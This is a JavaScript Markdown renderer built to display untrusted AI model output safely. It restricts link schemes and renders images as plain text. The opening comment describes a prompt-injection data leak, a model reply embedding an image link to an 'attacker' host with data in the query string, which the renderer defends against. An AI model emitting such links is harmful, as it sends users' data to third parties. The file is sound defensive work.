// A small Markdown renderer for model text, which is untrusted: it builds DOM nodes and sets only
// textContent and a checked href, so raw HTML in a reply stays text (never parsed), and an image is
// shown as its alt text and address, never fetched: a prompt-injected ![x](https://attacker/?q=...)
// makes no request. Blocks: paragraphs, headings, fenced code, quotes, lists, rules. Inline: code,
// links (http, https and mailto only), bold, italic.

const FENCE = /^\s*(```|~~~)\s*([\w+-]*)\s*$/;
const HEADING = /^(#{1,6})\s+(.*?)\s*#*\s*$/;
const QUOTE = /^\s*>\s?(.*)$/;
const ITEM = /^\s*([-*+]|\d{1,9}[.)])\s+(.*)$/;
const RULE = /^\s*([-*_])(\s*\1){2,}\s*$/;
// One inline token at a time: `code`, ![image](url), [link](url), **bold**, __bold__, *italic*, _italic_.
const INLINE = new RegExp(
  [
    "(`+)([\\s\\S]+?)\\1",
    "!\\[([^\\]]*)\\]\\(\\s*<?([^)\\s>]*)>?(?:\\s+\"[^\"]*\")?\\s*\\)",
    "\\[([^\\]]+)\\]\\(\\s*<?([^)\\s>]*)>?(?:\\s+\"[^\"]*\")?\\s*\\)",
    "\\*\\*(?=\\S)([\\s\\S]*?\\S)\\*\\*",
    "(?<!\\w)__(?=\\S)([\\s\\S]*?\\S)__(?!\\w)",
    "\\*(?=[^*\\s])([^*]*?[^*\\s])\\*",
    "(?<!\\w)_(?=[^_\\s])([^_]*?[^_\\s])_(?!\\w)",
  ].join("|"),
  "g",
);
const SAFE_SCHEMES = new Set(["http:", "https:", "mailto:"]);

function el(tag, text) {
  const node = document.createElement(tag);
  if (text !== undefined) node.textContent = text;
  return node;
}

// A link's address if it is one a click may open (never javascript:, data: or the like), else null.
export function safeHref(url) {
  try {
    const parsed = new URL(url, document.baseURI);
    return SAFE_SCHEMES.has(parsed.protocol) ? parsed.href : null;
  } catch {
    return null;
  }
}

function inline(text, into) {
  let last = 0;
  for (const m of text.matchAll(INLINE)) {
    if (m.index > last) into.append(document.createTextNode(text.slice(last, m.index)));
    last = m.index + m[0].length;
    if (m[1] !== undefined) {
      into.append(el("code", m[2]));
    } else if (m[4] !== undefined) {
      // An image: its words, as text. No <img>, no link: nothing to fetch, nothing to click.
      const shown = m[3] ? `image: ${m[3]}` : "image";
      into.append(el("span", `[${shown}]${m[4] ? ` (${m[4]})` : ""}`));
      into.lastChild.className = "image";
    } else if (m[6] !== undefined) {
      const href = safeHref(m[6]);
      if (href === null) {
        into.append(document.createTextNode(m[0]));
        continue;
      }
      const a = el("a");
      a.href = href;
      a.rel = "noopener noreferrer nofollow";
      a.target = "_blank";
      inline(m[5], a);
      into.append(a);
    } else if (m[7] !== undefined || m[8] !== undefined) {
      const b = el("strong");
      inline(m[7] ?? m[8], b);
      into.append(b);
    } else {
      const i = el("em");
      inline(m[9] ?? m[10], i);
      into.append(i);
    }
  }
  if (last < text.length) into.append(document.createTextNode(text.slice(last)));
  return into;
}

function paragraph(lines, into) {
  const p = el("p");
  lines.forEach((line, n) => {
    if (n > 0) p.append(el("br"));
    inline(line, p);
  });
  into.append(p);
}

// Markdown text -> a DocumentFragment. Safe for any text (see the top of this file).
export function render(text) {
  const out = document.createDocumentFragment();
  const lines = String(text).replace(/\r\n?/g, "\n").split("\n");
  let para = [];
  const flush = () => {
    if (para.length) paragraph(para, out);
    para = [];
  };
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i];
    let m;
    if ((m = FENCE.exec(line))) {
      flush();
      const body = [];
      for (i++; i < lines.length && !new RegExp(`^\\s*${m[1]}\\s*$`).test(lines[i]); i++) body.push(lines[i]);
      const code = el("code", body.join("\n"));
      if (m[2]) code.dataset.lang = m[2];
      const pre = el("pre");
      pre.append(code);
      out.append(pre);
    } else if ((m = HEADING.exec(line))) {
      flush();
      out.append(inline(m[2], el(`h${Math.min(m[1].length + 2, 6)}`)));
    } else if (RULE.test(line)) {
      flush();
      out.append(el("hr"));
    } else if (QUOTE.test(line)) {
      flush();
      const quoted = [];
      for (; i < lines.length && (m = QUOTE.exec(lines[i])); i++) quoted.push(m[1]);
      i--;
      const q = el("blockquote");
      q.append(render(quoted.join("\n")));
      out.append(q);
    } else if (ITEM.test(line)) {
      flush();
      const ordered = (item) => /\d/.test(item[1]);
      const kind = ordered(ITEM.exec(line));
      const list = el(kind ? "ol" : "ul");
      for (; i < lines.length && (m = ITEM.exec(lines[i])) && ordered(m) === kind; i++) {
        list.append(inline(m[2], el("li")));
      }
      i--;
      out.append(list);
    } else if (line.trim() === "") {
      flush();
    } else {
      para.push(line);
    }
  }
  flush();
  return out;
}
